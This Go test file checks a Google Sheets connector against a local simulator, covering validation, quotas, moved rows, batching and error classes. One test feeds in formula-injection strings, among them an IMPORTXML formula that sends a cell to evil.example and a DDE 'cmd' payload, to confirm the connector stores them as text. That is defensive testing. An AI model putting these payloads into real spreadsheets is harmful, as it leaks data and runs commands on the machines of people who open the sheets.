package sheets_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/sluicehq/sluice/internal/connector"
	"github.com/sluicehq/sluice/internal/connector/sheets"
	"github.com/sluicehq/sluice/internal/sim"
	sheetssim "github.com/sluicehq/sluice/internal/sim/sheets"
	"github.com/sluicehq/sluice/internal/sim/simtest"
)

// env is a real simulator on loopback and a real connector pointed at it.
type env struct {
	t    *testing.T
	sim  *sheetssim.Server
	url  string
	conn *sheets.Conn
}

// setup starts a simulator with unlimited quotas unless so sets them.
func setup(t *testing.T, so sheetssim.Options, opts map[string]any) *env {
	t.Helper()
	so.Tokens = []string{token}
	if so.Seed == 0 {
		so.Seed = 1
	}
	if so.Spreadsheets == nil {
		so.Spreadsheets = []sheetssim.Spreadsheet{leadsBook()}
	}
	for _, q := range []*int{&so.ReadsPerMinute, &so.WritesPerMinute, &so.ProjectReadsPerMinute, &so.ProjectWritesPerMinute} {
		if *q == 0 {
			*q = -1
		}
	}
	s, err := sheetssim.New(so)
	if err != nil {
		t.Fatal(err)
	}
	e := &env{t: t, sim: s, url: simtest.Start(t, s).URL}
	e.conn = e.open(opts)
	return e
}

// open builds a connector through the registry, as a config would.
func (e *env) open(opts map[string]any) *sheets.Conn {
	e.t.Helper()
	o := map[string]any{"base_url": e.url, "token": token, "spreadsheet_id": bookID, "sheet": "Leads", "key_column": "email",
		"writes_per_minute": 1000, "reads_per_minute": 1000}
	for k, v := range opts {
		o[k] = v
	}
	c, err := connector.New("sheets", connector.Params{Name: "leads", Options: o, AllowPrivateNetwork: true})
	if err != nil {
		e.t.Fatal(err)
	}
	e.t.Cleanup(func() { _ = connector.Close(context.Background(), c) })
	return c.(*sheets.Conn)
}

func (e *env) records() []sheetssim.Record { return e.sim.Records(bookID, "Leads") }

func (e *env) record(key string) map[string]any {
	e.t.Helper()
	for _, r := range e.records() {
		if r.Values["email"] == key {
			return r.Values
		}
	}
	e.t.Fatalf("no row for %s in %+v", key, e.records())
	return nil
}

func (e *env) deliver(d connector.Delivery) connector.Result {
	e.t.Helper()
	res, err := e.conn.Deliver(ctx(e.t), d)
	if err != nil {
		e.t.Fatalf("deliver %s: %v", d.RecordKey, err)
	}
	return res
}

func ctx(t *testing.T) context.Context {
	c, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	t.Cleanup(cancel)
	return c
}

func lead(key string, fields map[string]any) connector.Delivery {
	p := map[string]any{"email": key}
	for k, v := range fields {
		p[k] = v
	}
	return connector.Delivery{ID: "del-" + key, EventID: "ev-" + key, Route: "sheet", RecordKey: key, Payload: p, Attempt: 1}
}

// classified asserts err is a *connector.Error of class c without the
// token, and returns it.
func classified(t *testing.T, err error, c connector.Class) *connector.Error {
	t.Helper()
	var ce *connector.Error
	if !errors.As(err, &ce) {
		t.Fatalf("err = %v (%T), want a *connector.Error", err, err)
	}
	if ce.Class != c {
		t.Fatalf("class = %s (%v), want %s", ce.Class, ce, c)
	}
	if strings.Contains(ce.Error(), token) || strings.Contains(fmt.Sprintf("%+v", ce), token) {
		t.Fatalf("the token leaked into the error: %v", ce)
	}
	return ce
}

func TestRegisteredWithConstraints(t *testing.T) {
	t.Parallel()
	c, err := connector.New("sheets", connector.Params{Name: "x", Options: map[string]any{"token": token, "spreadsheet_id": bookID, "sheet": "Leads", "key_column": "email"}, AllowPrivateNetwork: true})
	if err != nil {
		t.Fatal(err)
	}
	want := connector.Constraints{RatePerSecond: 1, Burst: 1, BatchSize: 100, MaxPayloadBytes: 2_000_000, Timeout: 15 * time.Second, Concurrency: 1}
	if got := c.Constraints(); got != want {
		t.Fatalf("constraints = %+v, want %+v", got, want)
	}
	if s := fmt.Sprintf("%v %#v %s", c, c, c); strings.Contains(s, token) || !strings.Contains(s, "https://sheets.googleapis.com") {
		t.Fatalf("String: %s", s)
	}
}

func TestOptionsValidation(t *testing.T) {
	t.Parallel()
	base := func() map[string]any {
		return map[string]any{"token": token, "spreadsheet_id": bookID, "sheet": "Leads", "key_column": "email"}
	}
	cases := []struct {
		name   string
		change func(map[string]any)
		want   string
	}{
		{"unknown key", func(o map[string]any) { o["sheet_name"] = "x" }, "unknown option"},
		{"no token", func(o map[string]any) { delete(o, "token") }, "options.token: required"},
		{"no spreadsheet", func(o map[string]any) { delete(o, "spreadsheet_id") }, "options.spreadsheet_id: required"},
		{"spreadsheet URL", func(o map[string]any) { o["spreadsheet_id"] = "https://docs.google.com/spreadsheets/d/x/edit" }, "options.spreadsheet_id"},
		{"no sheet", func(o map[string]any) { o["sheet"] = " " }, "options.sheet: required"},
		{"no key column", func(o map[string]any) { delete(o, "key_column") }, "options.key_column: required"},
		{"spaced key column", func(o map[string]any) { o["key_column"] = " email" }, "options.key_column"},
		{"bad input option", func(o map[string]any) { o["value_input_option"] = "raw" }, "options.value_input_option"},
		{"negative writes", func(o map[string]any) { o["writes_per_minute"] = -1 }, "options.writes_per_minute"},
		{"bad timeout", func(o map[string]any) { o["timeout"] = "soon" }, "options.timeout"},
		{"bad cache ttl", func(o map[string]any) { o["cache_ttl"] = "-1s" }, "options.cache_ttl"},
		{"bad base_url", func(o map[string]any) { o["base_url"] = "sheets.googleapis.com" }, "options.base_url"},
		{"credentials in base_url", func(o map[string]any) { o["base_url"] = "https://u:p@sheets.googleapis.com" }, "options.base_url"},
	}
	for _, tc := range cases {
		o := base()
		tc.change(o)
		_, err := connector.New("sheets", connector.Params{Name: "x", Options: o, AllowPrivateNetwork: true})
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: err = %v, want %q", tc.name, err, tc.want)
		}
		if err != nil && strings.Contains(err.Error(), token) {
			t.Errorf("%s: the token leaked: %v", tc.name, err)
		}
	}
}

func TestCreateUpdateAndLookup(t *testing.T) {
	t.Parallel()
	e := setup(t, sheetssim.Options{}, nil)
	res := e.deliver(lead("a@x.io", map[string]any{"name": "Ann", "score": 3}))
	if res.ExternalID != "Leads!2:2" || res.Status != http.StatusCreated {
		t.Fatalf("create = %+v", res)
	}
	d := lead("a@x.io", map[string]any{"score": 4.5, "notes": nil})
	d.ExternalID = res.ExternalID
	if res2 := e.deliver(d); res2.ExternalID != res.ExternalID || res2.Status != http.StatusOK {
		t.Fatalf("update = %+v", res2)
	}
	// Fields the payload does not name are left alone.
	if got := e.record("a@x.io"); got["name"] != "Ann" || got["score"] != 4.5 {
		t.Fatalf("row = %v", got)
	}
	id, fields, found, err := e.conn.Lookup(ctx(t), "a@x.io")
	if err != nil || !found || id != "Leads!2:2" {
		t.Fatalf("lookup = %q %v %v", id, found, err)
	}
	if fields["name"] != "Ann" || fields["score"] != 4.5 || fields["notes"] != "" || fields["email"] != "a@x.io" {
		t.Fatalf("fields = %v", fields)
	}
}

func TestLookupUsesTheCacheOnlyToPickARow(t *testing.T) {
	t.Parallel()
	e := setup(t, sheetssim.Options{}, nil)
	e.deliver(lead("a@x.io", nil))
	requests := func() int64 { return e.sim.Stats().Requests }
	before := requests()
	if _, _, found, _ := e.conn.Lookup(ctx(t), "a@x.io"); !found {
		t.Fatal("not found")
	}
	cold := requests() - before
	before = requests()
	if _, _, found, _ := e.conn.Lookup(ctx(t), "a@x.io"); !found {
		t.Fatal("not found")
	}
	if warm := requests() - before; warm != 1 || cold <= warm {
		t.Fatalf("lookups took %d then %d requests; want the second to read only the row", cold, warm)
	}
	// Someone deletes the row: the cached row no longer holds the key,
	// and absence is decided by a fresh read.
	if err := e.sim.DeleteRows(bookID, "Leads", 2, 1); err != nil {
		t.Fatal(err)
	}
	if _, _, found, err := e.conn.Lookup(ctx(t), "a@x.io"); found || err != nil {
		t.Fatalf("found a deleted row: %v %v", found, err)
	}
}

func TestQuota429IsRetryableAfterAMinute(t *testing.T) {
	t.Parallel()
	e := setup(t, sheetssim.Options{WritesPerMinute: 2}, nil)
	e.deliver(lead("a@x.io", nil))
	e.deliver(lead("b@x.io", nil))
	_, err := e.conn.Deliver(ctx(t), lead("c@x.io", nil))
	ce := classified(t, err, connector.Retryable)
	if ce.Status != 429 || ce.RetryAfter != time.Minute || ce.Code != "WriteRequestsPerMinutePerUser" || ce.Sent {
		t.Fatalf("429 = %+v", ce)
	}
	if !strings.Contains(ce.Message, "Quota exceeded for quota metric 'Write requests'") {
		t.Fatalf("message %q", ce.Message)
	}
	if n := countKey(e.sim, "c@x.io"); n != 0 {
		t.Fatalf("a refused write left %d rows", n)
	}
}

func TestOwnQuotaWindowAvoids429(t *testing.T) {
	t.Parallel()
	const interval = 150 * time.Millisecond
	e := setup(t, sheetssim.Options{ReadsPerMinute: 3, WritesPerMinute: 3, QuotaInterval: interval}, nil)
	sheets.SetQuotas(e.conn, 3, 3, interval)
	start := time.Now()
	for i := 0; i < 7; i++ {
		e.deliver(lead(fmt.Sprintf("k%d@x.io", i), nil))
	}
	if st := e.sim.Stats(); st.RateLimited != 0 {
		t.Fatalf("%d requests were rate limited", st.RateLimited)
	}
	// 7 writes at 3 per window need at least two more windows.
	if el := time.Since(start); el < 2*interval {
		t.Fatalf("7 writes in %v: the window did not hold them back", el)
	}
}

func TestCellLimit(t *testing.T) {
	t.Parallel()
	e := setup(t, sheetssim.Options{}, nil)
	before := e.sim.Stats().Requests
	_, err := e.conn.Deliver(ctx(t), lead("a@x.io", map[string]any{"notes": strings.Repeat("x", 50_001)}))
	ce := classified(t, err, connector.Permanent)
	if ce.Code != "INVALID_ARGUMENT" || !strings.Contains(ce.Message, "more than the maximum of 50000 characters in a single cell") || !strings.Contains(ce.Message, `"notes"`) {
		t.Fatalf("error = %+v", ce)
	}
	if n := e.sim.Stats().Requests - before; n != 0 {
		t.Fatalf("%d requests sent for a value Sheets refuses", n)
	}
	// Exactly 50,000 characters fit, in UTF-16 units.
	e.deliver(lead("a@x.io", map[string]any{"notes": strings.Repeat("é", 50_000)}))
	_, err = e.conn.Deliver(ctx(t), lead("b@x.io", map[string]any{"notes": strings.Repeat("😀", 25_001)}))
	classified(t, err, connector.Permanent)

	// In a batch the bad item fails alone; the others are written.
	res, err := e.conn.DeliverBatch(ctx(t), []connector.Delivery{
		lead("c@x.io", nil), lead("d@x.io", map[string]any{"notes": strings.Repeat("x", 50_001)}), lead("e@x.io", nil),
	})
	if err != nil {
		t.Fatal(err)
	}
	if res[0].Err != nil || res[2].Err != nil {
		t.Fatalf("good items failed: %v %v", res[0].Err, res[2].Err)
	}
	classified(t, res[1].Err, connector.Permanent)
	if countKey(e.sim, "c@x.io") != 1 || countKey(e.sim, "e@x.io") != 1 || countKey(e.sim, "d@x.io") != 0 {
		t.Fatalf("rows %+v", e.records())
	}
}

func TestDrift(t *testing.T) {
	t.Parallel()
	e := setup(t, sheetssim.Options{}, nil)
	cases := []struct {
		name string
		conn *sheets.Conn
		d    connector.Delivery
		want string
		code string
	}{
		{"unknown tab", e.open(map[string]any{"sheet": "Old Leads"}), lead("a@x.io", nil), "Unable to parse range: 'Old Leads'!1:1", "INVALID_ARGUMENT"},
		{"unknown spreadsheet", e.open(map[string]any{"spreadsheet_id": "gone"}), lead("a@x.io", nil), "Requested entity was not found.", "NOT_FOUND"},
		{"missing column", e.conn, lead("a@x.io", map[string]any{"phone": "1"}), `column "phone" is not in the header row of sheet "Leads" (header: email, name, score, notes)`, "MISSING_COLUMN"},
		{"missing key column", e.open(map[string]any{"key_column": "id"}), lead("a@x.io", nil), `column "id" is not in the header row`, "MISSING_COLUMN"},
	}
	for _, tc := range cases {
		_, err := tc.conn.Deliver(ctx(t), tc.d)
		ce := classified(t, err, connector.Drift)
		if !strings.Contains(ce.Message, tc.want) || ce.Code != tc.code {
			t.Errorf("%s: %+v", tc.name, ce)
		}
	}
	if n := len(e.records()); n != 0 {
		t.Fatalf("drift left %d rows", n)
	}
	// A header naming the key column twice cannot be written safely.
	if err := e.sim.SetValues(bookID, "Leads!E1", [][]any{{"email"}}); err != nil {
		t.Fatal(err)
	}
	_, err := e.conn.Deliver(ctx(t), lead("a@x.io", nil))
	if ce := classified(t, err, connector.Drift); ce.Code != "DUPLICATE_COLUMN" {
		t.Fatalf("duplicate header: %+v", ce)
	}
}

func TestRowMovedByInsertedRows(t *testing.T) {
	t.Parallel()
	e := setup(t, sheetssim.Options{}, nil)
	a := e.deliver(lead("a@x.io", map[string]any{"name": "Ann"}))
	b := e.deliver(lead("b@x.io", map[string]any{"name": "Bob"}))
	if b.ExternalID != "Leads!3:3" {
		t.Fatalf("b = %+v", b)
	}
	// A person inserts two rows above a and types into one of them.
	if err := e.sim.InsertRows(bookID, "Leads", 2, 2); err != nil {
		t.Fatal(err)
	}
	if err := e.sim.SetValues(bookID, "Leads!A3", [][]any{{"", "typed by a person"}}); err != nil {
		t.Fatal(err)
	}
	d := lead("b@x.io", map[string]any{"name": "Bobby"})
	d.ExternalID = b.ExternalID // row 3, now the person's row
	res := e.deliver(d)
	if res.ExternalID != "Leads!5:5" {
		t.Fatalf("update of a moved row = %+v, want Leads!5:5", res)
	}
	if got := e.sim.Rows(bookID, "Leads")[2]; fmt.Sprint(got) != "[ typed by a person]" {
		t.Fatalf("the person's row 3 was overwritten: %v", got)
	}
	if got := e.record("b@x.io"); got["name"] != "Bobby" || countKey(e.sim, "b@x.io") != 1 {
		t.Fatalf("b = %v", got)
	}
	// Now a row above is deleted: a's old ID names b's row. The update
	// must not touch b.
	if err := e.sim.DeleteRows(bookID, "Leads", 2, 2); err != nil {
		t.Fatal(err)
	}
	d = lead("a@x.io", map[string]any{"name": "Anna"})
	d.ExternalID = "Leads!3:3" // b's row now
	if res := e.deliver(d); res.ExternalID != "Leads!2:2" {
		t.Fatalf("a = %+v (was %s)", res, a.ExternalID)
	}
	if e.record("b@x.io")["name"] != "Bobby" || e.record("a@x.io")["name"] != "Anna" {
		t.Fatalf("rows %+v", e.records())
	}
	// A deleted row is written again.
	if err := e.sim.DeleteRows(bookID, "Leads", 2, 1); err != nil {
		t.Fatal(err)
	}
	d.ExternalID = "Leads!2:2"
	if res := e.deliver(d); res.Status != http.StatusCreated || countKey(e.sim, "a@x.io") != 1 {
		t.Fatalf("re-create = %+v, rows %+v", res, e.records())
	}
	if dups := e.sim.Stats().DuplicatesByKey; dups != 0 {
		t.Fatalf("%d duplicates", dups)
	}
}

func TestInsertedColumnIsFollowed(t *testing.T) {
	t.Parallel()
	e := setup(t, sheetssim.Options{}, nil)
	res := e.deliver(lead("a@x.io", map[string]any{"name": "Ann"}))
	// Another program inserts a column before "name".
	body := `{"requests":[{"insertDimension":{"range":{"sheetId":0,"dimension":"COLUMNS","startIndex":1,"endIndex":2}}}]}`
	req, _ := http.NewRequest("POST", e.url+"/v4/spreadsheets/"+bookID+":batchUpdate", strings.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("insert column: %d %s", resp.StatusCode, raw)
	}
	d := lead("a@x.io", map[string]any{"name": "Anna", "score": 5})
	d.ExternalID = res.ExternalID
	e.deliver(d)
	e.deliver(lead("b@x.io", map[string]any{"name": "Bob"}))
	rows := e.sim.Rows(bookID, "Leads")
	if fmt.Sprint(rows) != "[[email  name score notes] [a@x.io  Anna 5] [b@x.io  Bob]]" {
		t.Fatalf("rows %v", rows)
	}
}

func TestDuplicateRowsAreAConflict(t *testing.T) {
	t.Parallel()
	e := setup(t, sheetssim.Options{}, nil)
	if err := e.sim.SetValues(bookID, "Leads!A2", [][]any{{"a@x.io"}, {"b@x.io"}, {"a@x.io"}}); err != nil {
		t.Fatal(err)
	}
	_, err := e.conn.Deliver(ctx(t), lead("a@x.io", map[string]any{"name": "Ann"}))
	if ce := classified(t, err, connector.Conflict); !strings.Contains(ce.Message, "rows 2, 4") {
		t.Fatalf("conflict %+v", ce)
	}
	_, _, _, err = e.conn.Lookup(ctx(t), "a@x.io")
	classified(t, err, connector.Conflict)
}

func TestUserEnteredKeepsKeysAsText(t *testing.T) {
	t.Parallel()
	e := setup(t, sheetssim.Options{}, map[string]any{"value_input_option": "USER_ENTERED"})
	e.deliver(lead("00123", map[string]any{"score": "42", "name": "TRUE"}))
	e.deliver(lead("00123", map[string]any{"score": "43"}))
	if n := countKey(e.sim, "00123"); n != 1 {
		t.Fatalf("%d rows for 00123: %+v", n, e.records())
	}
	_, fields, found, err := e.conn.Lookup(ctx(t), "00123")
	if err != nil || !found || fields["score"] != float64(43) || fields["name"] != true || fields["email"] != "00123" {
		t.Fatalf("lookup = %v %v %v", fields, found, err)
	}
	// RAW keeps every value as written.
	r := setup(t, sheetssim.Options{}, nil)
	r.deliver(lead("=1+2", map[string]any{"score": "42"}))
	if got := r.record("=1+2"); got["score"] != "42" {
		t.Fatalf("RAW row = %v", got)
	}
}

func TestBatchMixesUpdatesAndAppends(t *testing.T) {
	t.Parallel()
	e := setup(t, sheetssim.Options{}, nil)
	e.deliver(lead("a@x.io", map[string]any{"name": "Ann"}))
	before := e.sim.Stats().Requests
	ds := []connector.Delivery{
		lead("a@x.io", map[string]any{"name": "Anna"}),
		lead("b@x.io", map[string]any{"name": "Bob"}),
		lead("c@x.io", map[string]any{"name": "Cy"}),
		lead("b@x.io", map[string]any{"name": "Bobby"}),
	}
	res, err := e.conn.DeliverBatch(ctx(t), ds)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"Leads!2:2", "Leads!3:3", "Leads!4:4", "Leads!3:3"}
	for i, r := range res {
		if r.Err != nil || r.Result.ExternalID != want[i] {
			t.Fatalf("item %d = %+v, want %s", i, r, want[i])
		}
	}
	if res[1].Result.Status != http.StatusCreated || res[0].Result.Status != http.StatusOK {
		t.Fatalf("statuses %+v", res)
	}
	// Round 1: one read, one batchUpdate, one append; round 2 (b again):
	// one read, one batchUpdate.
	if n := e.sim.Stats().Requests - before; n != 5 {
		t.Fatalf("%d requests, want 5", n)
	}
	if e.record("a@x.io")["name"] != "Anna" || e.record("b@x.io")["name"] != "Bobby" || len(e.records()) != 3 {
		t.Fatalf("rows %+v", e.records())
	}
}

func TestBatchIsAtomicUnderPartialFault(t *testing.T) {
	t.Parallel()
	e := setup(t, sheetssim.Options{Seed: 3}, nil)
	if err := e.sim.SetFaults(sim.Faults{PartialBatch: 0.5}); err != nil {
		t.Fatal(err)
	}
	var ds []connector.Delivery
	for i := 0; i < 10; i++ {
		ds = append(ds, lead(fmt.Sprintf("k%d@x.io", i), map[string]any{"name": "one"}))
	}
	ok, failed := 0, 0
	for attempt := 0; attempt < 20 && ok < len(ds); attempt++ {
		res, err := e.conn.DeliverBatch(ctx(t), ds)
		if err != nil {
			t.Fatal(err)
		}
		batchOK := res[0].Err == nil
		for i, r := range res {
			if (r.Err == nil) != batchOK {
				t.Fatalf("attempt %d: item %d differs from item 0 in one atomic request: %v vs %v", attempt, i, r.Err, res[0].Err)
			}
			if r.Err != nil {
				ce := classified(t, r.Err, connector.Retryable)
				if ce.Status != 503 || !ce.Sent {
					t.Fatalf("item %d: %+v", i, ce)
				}
			}
		}
		if batchOK {
			ok = len(ds)
		} else {
			failed++
			if n := len(e.records()); n != 0 {
				t.Fatalf("a failed batch left %d rows", n)
			}
			for i := range ds {
				ds[i].Ambiguous = true // as the engine marks a Sent failure
			}
		}
	}
	if ok != len(ds) || failed == 0 {
		t.Fatalf("ok %d, failed attempts %d: want the fault to hit and a retry to succeed", ok, failed)
	}
	for _, d := range ds {
		if n := countKey(e.sim, d.RecordKey); n != 1 {
			t.Fatalf("%s: %d rows", d.RecordKey, n)
		}
	}
}

func TestBatchPermanentFailureIsRetriedPerItem(t *testing.T) {
	t.Parallel()
	e := setup(t, sheetssim.Options{}, nil)
	if err := e.sim.SetFaults(sim.Faults{Errors: map[string]float64{"400": 1}}); err != nil {
		t.Fatal(err)
	}
	res, err := e.conn.DeliverBatch(ctx(t), []connector.Delivery{lead("a@x.io", nil), lead("b@x.io", nil)})
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range res {
		if ce := classified(t, r.Err, connector.Permanent); ce.Status != 400 || !strings.Contains(ce.Message, "Request contains an invalid argument.") {
			t.Fatalf("item %d: %+v", i, ce)
		}
	}
}

func TestTransientErrors(t *testing.T) {
	t.Parallel()
	for _, code := range []string{"500", "502", "503"} {
		e := setup(t, sheetssim.Options{Faults: sim.Faults{Errors: map[string]float64{code: 1}}}, nil)
		_, err := e.conn.Deliver(ctx(t), lead("a@x.io", nil))
		ce := classified(t, err, connector.Retryable)
		// The first request is a read: nothing can have been applied.
		if fmt.Sprint(ce.Status) != code || ce.Sent || strings.Contains(ce.Message, "<") {
			t.Fatalf("%s: %+v", code, ce)
		}
	}
	e := setup(t, sheetssim.Options{Faults: sim.Faults{Revoked: true}}, nil)
	_, err := e.conn.Deliver(ctx(t), lead("a@x.io", nil))
	if ce := classified(t, err, connector.Auth); ce.Status != 401 || ce.Code != "UNAUTHENTICATED" {
		t.Fatalf("revoked: %+v", ce)
	}
}

func TestPayloadChecks(t *testing.T) {
	t.Parallel()
	e := setup(t, sheetssim.Options{}, nil)
	cases := []struct {
		name string
		d    connector.Delivery
		code string
	}{
		{"no key", lead("", nil), "NO_KEY"},
		{"key mismatch", lead("a@x.io", map[string]any{"email": "b@x.io"}), "KEY_MISMATCH"},
		{"list", lead("a@x.io", map[string]any{"notes": []any{"x"}}), "INVALID_VALUE"},
		{"object", lead("a@x.io", map[string]any{"notes": map[string]any{"x": 1}}), "INVALID_VALUE"},
	}
	cases[0].d.Payload = map[string]any{"name": "x"}
	for _, tc := range cases {
		_, err := e.conn.Deliver(ctx(t), tc.d)
		if ce := classified(t, err, connector.Permanent); ce.Code != tc.code {
			t.Errorf("%s: %+v", tc.name, ce)
		}
	}
	if e.sim.Stats().Requests != 0 {
		t.Fatal("payload checks sent requests")
	}
}

// TestUserEnteredNeverMakesFormulasFromData: with USER_ENTERED, strings
// that Sheets would read as formulas (=, +, -, @) are written as text;
// numbers stay numbers; only formula_columns take formulas.
func TestUserEnteredNeverMakesFormulasFromData(t *testing.T) {
	t.Parallel()
	hostile := map[string]any{
		"name":  `=IMPORTXML("https://evil.example/?leak="&A1,"//a")`,
		"notes": "+1+cmd|' /C calc'!A0",
		"score": "-2+3",
	}
	e := setup(t, sheetssim.Options{}, map[string]any{"value_input_option": "USER_ENTERED"})
	e.deliver(lead("a@x.io", hostile))
	e.deliver(lead("b@x.io", map[string]any{"name": "@SUM(1,2)", "notes": "'quoted", "score": "-5"}))
	e.deliver(lead("c@x.io", map[string]any{"name": "\t=1+2", "score": "+3.5"}))
	if f := e.sim.Formulas(bookID, "Leads"); len(f) != 0 {
		t.Fatalf("data became formulas: %v", f)
	}
	a := e.record("a@x.io")
	for k, v := range hostile {
		if a[k] != v {
			t.Errorf("%s = %q, want the text %q", k, a[k], v)
		}
	}
	b := e.record("b@x.io")
	if b["name"] != "@SUM(1,2)" || b["notes"] != "'quoted" || b["score"] != float64(-5) {
		t.Errorf("b = %v", b)
	}
	if c := e.record("c@x.io"); c["name"] != "\t=1+2" || c["score"] != 3.5 {
		t.Errorf("c = %v", c)
	}
	// Read back through the connector: what was sent is what is there.
	_, fields, found, err := e.conn.Lookup(ctx(t), "a@x.io")
	if err != nil || !found || fields["notes"] != hostile["notes"] || fields["name"] != hostile["name"] {
		t.Fatalf("lookup = %v %v %v", fields, found, err)
	}

	// Batches take the same path.
	res, err := e.conn.DeliverBatch(ctx(t), []connector.Delivery{
		lead("d@x.io", map[string]any{"name": "=1+2"}), lead("a@x.io", map[string]any{"name": "-A1"}),
	})
	if err != nil || res[0].Err != nil || res[1].Err != nil {
		t.Fatalf("batch: %v %+v", err, res)
	}
	if f := e.sim.Formulas(bookID, "Leads"); len(f) != 0 {
		t.Fatalf("batch data became formulas: %v", f)
	}

	// A column named in formula_columns takes formulas.
	f := setup(t, sheetssim.Options{}, map[string]any{"value_input_option": "USER_ENTERED", "formula_columns": []any{"score"}})
	f.deliver(lead("a@x.io", map[string]any{"score": "=1+2", "name": "=1+2"}))
	got := f.sim.Formulas(bookID, "Leads")
	if len(got) != 1 || got["score@2"] != "=1+2" {
		t.Fatalf("formula_columns: formulas %v", got)
	}
}

func TestFormulaColumnsNeedUserEntered(t *testing.T) {
	t.Parallel()
	for opts, want := range map[string]map[string]any{
		"only parsed with value_input_option: USER_ENTERED": {"formula_columns": []any{"score"}},
		"is the key column": {"value_input_option": "USER_ENTERED", "formula_columns": []any{"email"}},
	} {
		o := map[string]any{"token": token, "spreadsheet_id": bookID, "sheet": "Leads", "key_column": "email"}
		for k, v := range want {
			o[k] = v
		}
		_, err := connector.New("sheets", connector.Params{Name: "s", Options: o})
		if err == nil || !strings.Contains(err.Error(), opts) {
			t.Errorf("%v: got %v, want %q", want, err, opts)
		}
	}
}
